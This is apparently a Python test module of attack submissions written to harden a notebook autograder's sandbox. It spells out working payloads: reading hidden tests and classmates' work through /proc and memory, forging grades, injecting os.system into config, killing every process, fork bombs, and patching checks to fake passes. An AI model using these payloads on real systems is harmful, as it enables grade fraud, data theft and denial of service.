"""Hostile submissions to lesson 01, written by someone who has read the grader's code.

Each attack is the code of a notebook's answer cell (run before a wrong `Square`, so that any mark it
earns is forged), or extra cells. An attack prints whatever it managed to get: a secret that reaches its
feedback notebook or grades.csv shows that the attack worked. `Paths` are what the attacker aims at.
"""

from dataclasses import dataclass
from pathlib import Path

from classroom import LESSON, answers_of

# A Square that cubes, with derivatives consistent with cubing: it earns nothing honestly.
WRONG = answers_of("cube_with_consistent_derivatives")["square"]
RIGHT = answers_of("solution")["square"]
# Text only the hidden tests hold; an attack never writes it, so finding it in its outputs is a leak.
MARKER = "randomized=True"

# Reports each attempt on one line: what it got (which must never be a secret) or why it failed.
_PRELUDE = """
import os, sys, time

def attempt(name, action):
    try:
        print(name, "->", repr(action())[:3000])
    except BaseException as error:
        print(name, "-x", type(error).__name__, str(error)[:300])
"""


@dataclass(frozen=True)
class Paths:
    repository: Path
    submitted: Path
    out: Path
    classmate: Path  # one classmate's notebook

    @property
    def hidden_tests(self) -> Path:
        return self.repository / "solutions" / "source" / LESSON / f"{LESSON}.ipynb"

    @property
    def reference(self) -> Path:
        return self.repository / "solutions" / "saving_inputs.py"

    @property
    def grader_code(self) -> Path:
        """A module of the grader's that notebooks import, so can read."""
        return self.repository / "autograder" / "checks.py"

    @property
    def planted(self) -> Path:
        """A secret the test writes into the output folder before the run."""
        return self.out / "planted.txt"

    def secrets(self) -> list[Path]:
        return [
            self.hidden_tests,
            self.reference,
            self.planted,
            self.classmate,
            self.out / "gradebook.db",
            self.out / "journal.jsonl",
            self.out / "run.json",
            self.out / "nbgrader_config.py",
        ]


def _code(body: str, answer: str = WRONG) -> str:
    return f"{_PRELUDE}\n{body}\n\n{answer}"


def reads(paths: Paths) -> dict[str, str]:
    """Every route to a protected byte: path, dir_fd, /proc, links, sqlite, mmap, `dot` reading it."""
    targets = [str(p) for p in paths.secrets()]
    repo = str(paths.repository)
    return {
        "reads_by_path": _code(f"""
for path in {targets!r}:
    attempt(path, lambda: open(path, "rb").read())
    attempt("list " + os.path.dirname(path), lambda: os.listdir(os.path.dirname(path)))
"""),
        "reads_by_dir_fd": _code(f"""
repo = os.open({repo!r}, os.O_RDONLY | os.O_DIRECTORY)
attempt("listdir(fd)", lambda: os.listdir(os.open("solutions", os.O_RDONLY, dir_fd=repo)))
for path in {targets!r}:
    relative = os.path.relpath(path, {repo!r})
    attempt(relative, lambda: os.read(os.open(relative, os.O_RDONLY, dir_fd=repo), 1 << 20))
"""),
        "reads_through_proc": _code(f"""
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for path in {targets!r}:
            attempt(pid + " root", lambda: open(f"/proc/{{pid}}/root{{path}}", "rb").read())
        attempt(pid + " environ", lambda: open(f"/proc/{{pid}}/environ", "rb").read())
        for fd in os.listdir(f"/proc/{{pid}}/fd"):
            attempt(pid + " fd " + fd, lambda: open(f"/proc/{{pid}}/fd/{{fd}}", "rb").read(1 << 20))
for path in {targets!r}:
    attempt("O_PATH " + path, lambda: open("/proc/self/fd/%d" % os.open(path, os.O_PATH), "rb").read())
"""),
        "reads_through_links": _code(f"""
for number, path in enumerate({targets!r}):
    attempt("symlink", lambda: os.symlink(path, f"/tmp/s{{number}}") or open(f"/tmp/s{{number}}").read())
    attempt("hard link", lambda: os.link(path, f"/tmp/h{{number}}") or open(f"/tmp/h{{number}}").read())
"""),
        "reads_with_sqlite_and_mmap": _code(f"""
import mmap, sqlite3, subprocess
for path in {targets!r}:
    attempt("sqlite " + path, lambda: sqlite3.connect(f"file:{{path}}?mode=ro", uri=True).execute(
        "select * from sqlite_master").fetchall())
    attempt("mmap " + path, lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:])
    attempt("dot " + path, lambda: subprocess.run(["/usr/bin/dot", path], capture_output=True))
"""),
        "reads_the_graders_memory": _code(f"""
import gc, inspect
# Built at run time, and a hit counts only after the test's own text: the attack's needle is no hit.
needle, before = bytes.fromhex({MARKER.encode().hex()!r}), bytes.fromhex({b"x**2, ".hex()!r})
# A classmate's notebook holds a planted secret: finding it in memory would be another student's cells.
classmate = bytes.fromhex({b"planted-".hex()!r})
found = set()
def hit(data):
    at = data.find(needle)
    while at >= 0 and data[max(at - len(before), 0) : at] != before:
        at = data.find(needle, at + 1)
    if at < 0:
        at = data.find(classmate)
        while at >= 0 and not all(c in b"0123456789abcdef" for c in data[at + 8 : at + 24]):
            at = data.find(classmate, at + 1)
    return at
def look(value):
    if isinstance(value, str):
        value = value.encode(errors="replace")
    if isinstance(value, bytes) and hit(value) >= 0:
        found.add(value[:3000])
for frame in inspect.stack():
    for value in [*frame.frame.f_locals.values(), *frame.frame.f_globals.values()]:
        look(value)
for value in gc.get_objects():
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        look(item)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            memory = open(f"/proc/{{pid}}/mem", "rb")
            for line in open(f"/proc/{{pid}}/maps"):
                span, permissions = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if not permissions.startswith("r"):
                    continue
                try:
                    memory.seek(start)
                    chunk = memory.read(min(end - start, 1 << 26))
                except (OSError, OverflowError, ValueError):
                    continue
                at = hit(chunk)
                if at >= 0:
                    found.add(chunk[max(at - 2000, 0) : at + 200])
        except OSError as error:
            print(pid, error)
print("found", found)
"""),
    }


def writes(paths: Paths) -> dict[str, str]:
    """Changing what is not the notebook's own: classmates, the gradebook, journal, config, solutions."""
    classmate, out = str(paths.classmate), paths.out
    forged = '{"key": ["%s", "01_saving_inputs", "01_saving_inputs"], "rows": []}'
    return {
        "overwrites_classmates": _code(f"""
attempt("overwrite", lambda: open({classmate!r}, "w").write("{{}}"))
attempt("delete", lambda: os.remove({classmate!r}))
attempt("rename", lambda: os.rename({classmate!r}, "/tmp/taken.ipynb"))
attempt("delete folder", lambda: __import__("shutil").rmtree({str(paths.submitted)!r}))
"""),
        "tampers_with_the_output_folder": _code(f"""
attempt("delete gradebook", lambda: os.remove({str(out / "gradebook.db")!r}))
attempt("forge journal", lambda: open({str(out / "journal.jsonl")!r}, "a").write({forged!r} % "victim"))
config = {str(out / "nbgrader_config.py")!r}
attempt("config", lambda: open(config, "a").write("\\nimport os; os.system('touch /tmp/owned')"))
attempt("run.json", lambda: open({str(out / "run.json")!r}, "w").write("{{}}"))
attempt("rename out", lambda: os.rename({str(out)!r}, "/tmp/out"))
"""),
        "writes_into_solutions": _code(f"""
attempt("solutions", lambda: open({str(paths.reference)!r}, "a").write("\\nraise SystemExit"))
attempt("new file", lambda: open({str(paths.reference.parent / "planted_by_student.py")!r}, "w").write("x"))
attempt("hidden tests", lambda: os.remove({str(paths.hidden_tests)!r}))
"""),
    }


def processes() -> dict[str, str]:
    """Execute, signal, outlive, fork, memory, disk."""
    return {
        "runs_a_shell": _code("""
import shutil, subprocess
attempt("system", lambda: os.system("id > /tmp/id"))
attempt("subprocess", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True))
attempt("copy", lambda: shutil.copy("/bin/sh", "/tmp/dot") and os.chmod("/tmp/dot", 0o755))
attempt("fake dot", lambda: subprocess.run(["/tmp/dot", "-c", "id"], capture_output=True))
attempt("PATH dot", lambda: subprocess.run(["dot", "-c", "id"], env={"PATH": "/tmp"}, capture_output=True))
"""),
        "kills_everything": _code("""
import signal
attempt("kill -1", lambda: os.kill(-1, signal.SIGKILL))
for pid in range(2, 1 << 16):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
attempt("parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("group", lambda: os.killpg(0, signal.SIGKILL))
"""),
        "outlives_its_notebook": _code("""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
    os._exit(0)
time.sleep(0.2)
"""),
        "forks_a_bomb": _code("""
children = 0
for _ in range(500):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("forked", children)
"""),
        "hogs_memory": _code("""
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(600 * 2**20)
        for i in range(0, len(hog), 4096):
            hog[i] = 1
        time.sleep(5)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""),
        "fills_the_disk": _code("""
for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
    def fill(folder=folder):
        with open(os.path.join(folder, "big"), "wb") as big:
            for _ in range(1024):
                big.write(b"x" * 2**20)
    attempt(folder, fill)
"""),
    }


def below_landlock_6(paths: Paths, port: int, abstract_socket: str) -> dict[str, str]:
    """What Landlock guards only from ABI 3 (truncation), 4 (TCP) and 6 (signals, abstract unix
    sockets), aimed at the instructor's files (the grader's own code, which notebooks read, among them),
    the output folder, the grading worker and a server the test runs: below those versions, the
    read-only mounts and the namespaces must keep them."""
    targets = [str(p) for p in (paths.grader_code, paths.hidden_tests, paths.reference, paths.classmate)]
    targets.append(str(paths.planted))
    targets += [str(paths.out / name) for name in ("journal.jsonl", "gradebook.db", "run.json")]
    return {
        "truncates_files": _code(f"""
for path in {targets!r}:
    attempt("truncate " + path, lambda: os.truncate(path, 0))
    attempt("O_TRUNC " + path, lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)))
    attempt("touch " + path, lambda: os.utime(path, None))
"""),
        "signals_the_worker": processes()["kills_everything"],
        "connects_to_loopback": _code(f"""
import socket
attempt("connect", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"owned"))
"""),
        "connects_to_an_abstract_socket": _code(f"""
import socket
unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
attempt("connect", lambda: unix.connect({abstract_socket!r}) or unix.sendall(b"owned"))
"""),
    }


def outputs() -> dict[str, list[str]]:
    """Cells (answer cell first) that print, display or write to the grader's pipes."""
    garbage = "b'\\x00\\xff' * 4096 + b'{\"outputs\": []}'"
    return {
        "prints_without_end": [
            _code("print('x' * 200_000_000)"),
            "print('y' * 200_000_000)",
            "import sys\nsys.stderr.write('z' * 200_000_000)",
        ],
        "displays_giant_data": [
            _code("""
from IPython.display import display
display({"text/plain": "x" * 50_000_000, "text/html": "<b>" * 50_000_000}, raw=True)
display({"image/png": "A" * 100_000_000}, raw=True)
"""),
        ],
        "writes_garbage_to_every_fd": [
            _code(f"""
for fd in range(0, 1024):
    try:
        os.write(fd, {garbage})
    except OSError:
        pass
"""),
        ],
        "closes_its_pipes": [_code("for fd in range(0, 1024):\n    attempt(fd, lambda: os.close(fd))")],
        "forges_its_outputs": [
            _code("""
from autograder.sandbox import executor
executor._recorder.outputs.append({})
executor._recorder.outputs.append({"output_type": "error"})
executor._recorder.outputs.append({"output_type": "display_data", "data": 1, "metadata": []})
"""),
            "from autograder.grading import executor\nexecutor._recorder.outputs.append({'output_type': 7})",
        ],
        "prints_lone_surrogates": [
            _code("print('\\ud800 \\udfff')\nraise ValueError('\\udcff')"),
            "import sys\nsys.stderr.write('\\ud800')",
        ],
    }


FORGERIES = {
    "replaces_the_checks": """
import autograder, autograder.checks
def passes(*args, **kwargs):
    return None
for name in ("check_forward", "check_first_derivative", "check_second_derivative", "check_result"):
    setattr(autograder.checks, name, passes)
    setattr(autograder, name, passes)
""",
    "fakes_the_measurement": """
import torch
from autograder.wire import arrays
from autograder.probe import measure
def forged(request, *args, **kwargs):
    return {"passed": True, "samples": [], "verdict": "passed"}
measure.measure_in = measure.measure = forged
arrays.pack = lambda tree: b""
""",
    "writes_a_verdict_from_the_checker": """
import torch
from autograder.wire import arrays

class Square(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        for fd in range(3, 256):
            try:
                os.write(fd, arrays.pack({"samples": []}))
            except OSError:
                pass
        os._exit(0)
""",
    "lies_with_a_tensor_subclass": """
import torch

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.isclose, torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    def __reduce_ex__(self, protocol):
        return (os.system, ("id",))

class Square(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return torch.zeros_like(x).as_subclass(Liar)
    @staticmethod
    def backward(ctx, grad_out):
        return torch.zeros_like(grad_out).as_subclass(Liar)
""",
    "leaves_a_mode_pushed": """
import torch
from torch.overrides import TorchFunctionMode

class Everything(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.isclose, torch.allclose, torch.equal):
            return True
        return func(*args, **(kwargs or {}))

Everything().__enter__()
""",
    "returns_no_tensors": """
import torch

class Fake:
    shape, dtype = (), torch.float64
    def __float__(self):
        return 0.0
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True

class Square:
    apply = staticmethod(lambda x: [Fake(), "x", None, {"a": 1}])
""",
    "hooks_the_interpreter": """
import atexit, sys, threading, torch
from autograder.wire import arrays

def forge():
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, arrays.pack({"samples": []}))
            except OSError:
                pass
        time.sleep(0.01)

threading.Thread(target=forge, daemon=True).start()
atexit.register(forge)

class Finder:
    def find_spec(self, name, path=None, target=None):
        print("import", name)
sys.meta_path.insert(0, Finder())

def tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("_called", "measure"):
        frame.f_locals.clear()
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)

class Ghost:
    def __del__(self):
        forge()
ghost = Ghost()
""",
}


def forgeries() -> dict[str, str]:
    """Attempts to earn marks with a wrong answer by fooling the checks rather than the grader; those
    that define their own `Square` are the whole answer."""
    return {
        name: _code(body, answer="" if "class Square" in body else WRONG) for name, body in FORGERIES.items()
    }
